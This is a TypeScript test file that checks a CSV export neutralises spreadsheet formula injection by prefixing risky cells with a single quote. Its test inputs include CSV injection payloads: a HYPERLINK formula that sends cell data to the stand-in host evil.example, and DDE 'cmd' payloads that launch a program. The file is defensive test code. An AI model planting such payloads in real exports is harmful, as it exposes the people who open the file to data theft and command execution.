import { mkdtemp, readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { BACKFILL_COLUMNS, writeBackfillOutput } from '../../../src/backfill/output';
import { csvField } from '../../../src/reports/escape';
import type { RowResult } from '../../../src/reports/types';

const DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|'/C calc'!A0", '@SUM(1+1)*cmd|\'/C calc\'!A0', '+1+1', '-2+3', '\t=1+1', '\r=1+1'];

async function* rows(list: RowResult[]): AsyncGenerator<RowResult> {
  yield* list;
}

describe('csvField', () => {
  it('neutralises formula starts with a single quote, then quotes as RFC 4180 says', () => {
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('@x')).toBe("'@x");
    expect(csvField('=a,b')).toBe('"\'=a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField(-5)).toBe('-5');
    expect(csvField(undefined)).toBe('');
  });
});

describe('writeBackfillOutput', () => {
  it('answers.csv has no cell a spreadsheet would run as a formula, and the text survives', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'backfill-out-'));
    const list: RowResult[] = DANGEROUS.map((question, index) => ({
      id: `=id${index}`, index, line: index + 2, question, outcome: 'answered', answer: `@answer ${index}`, email: '+a@b.co', error: '-oops',
    }));
    const path = join(dir, 'answers.csv');
    await writeBackfillOutput(path, rows(list));
    const records = parse(await readFile(path, 'utf8'), { relax_column_count: false }) as string[][];
    expect(records[0]).toEqual([...BACKFILL_COLUMNS]);
    expect(records).toHaveLength(DANGEROUS.length + 1);
    for (const record of records.slice(1)) {
      for (const cell of record) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/u);
    }
    const questions = records.slice(1).map((r) => r[BACKFILL_COLUMNS.indexOf('question')]);
    expect(questions).toEqual(DANGEROUS.map((q) => `'${q}`));
  });
});
